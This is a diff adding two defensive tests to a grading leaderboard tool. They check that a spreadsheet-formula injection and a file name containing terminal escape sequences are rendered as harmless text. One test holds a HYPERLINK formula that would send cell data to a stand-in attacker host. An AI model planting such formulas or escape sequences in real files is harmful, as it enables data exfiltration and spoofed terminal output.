@@ -247,6 +247,17 @@ def test_csv_has_a_row_per_run_and_per_submission(board):
     assert summary["honest"] == "ok" and summary["crash"] == summary["buggy"] == "0 of 1 ok"
 
 
+def test_a_formula_in_an_error_stays_text_in_the_csv(board):
+    """csv_formula's exception class is named `=HYPERLINK(...)`: its cell starts with a quote, which a
+    spreadsheet shows as text; the JSON keeps the error as the grader read it."""
+    FORMULA = '=HYPERLINK("http://attacker.example/?row="&A2,"see details")'  # noqa: N806 - csv_formula's
+    with (board[1] / "leaderboard.csv").open() as fh:
+        cells = [line["error"] for line in csv.DictReader(fh) if line["submission"] == "csv_formula"]
+    assert cells == [f"'{FORMULA}: the step failed", ""]  # its run, then its ALL row
+    rows, _ = _rows(board[1])
+    assert rows["csv_formula"]["status"] == "failed" and rows["csv_formula"]["error"] == f"{FORMULA}: the step failed"
+
+
 def test_second_run_resumes_and_ignores_rows_it_did_not_write(board):
     _, out, copies, _ = board
     results = out / "results.jsonl"
@@ -260,3 +271,24 @@ def test_second_run_resumes_and_ignores_rows_it_did_not_write(board):
     assert f"resuming: {len(kept)} of {len(lines)}" in proc.stdout
     rows, _ = _rows(out)
     assert rows["honest"]["status"] == "ok"
+
+
+def test_a_file_named_with_escape_sequences_prints_them_as_text(tmp_path):
+    """A submission whose file name holds terminal escape sequences (erase the line, move the cursor up:
+    enough to overwrite the rows above it) prints them as backslash escapes on the board, and the CSV
+    shows them so too; the JSON escapes them itself."""
+    if sandbox_problem():
+        pytest.skip("the OS sandbox is not usable here")
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    name = "evil\x1b[2K\x1b[1A\u202eboard"
+    shutil.copy(ROOT / "tests" / "submissions" / "honest.py", subs / f"{name}.py")
+    (tmp_path / "suite.toml").write_text(SUITE)
+    proc = grader("leaderboard", str(subs), "--suite", str(tmp_path / "suite.toml"), "--out", str(tmp_path / "out"),
+                  "--no-plots", env=dict(os.environ, COLUMNS="200"))
+    assert proc.returncode == 0, proc.stderr
+    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout
+    assert "evil\\x1b[2K\\x1b[1A\\u202eboard" in proc.stdout
+    with (tmp_path / "out" / "leaderboard.csv").open() as fh:
+        assert {line["submission"] for line in csv.DictReader(fh)} == {"evil\\x1b[2K\\x1b[1A\\u202eboard"}
+    assert json.loads((tmp_path / "out" / "leaderboard.json").read_text())["rows"][0]["strategy"] == name
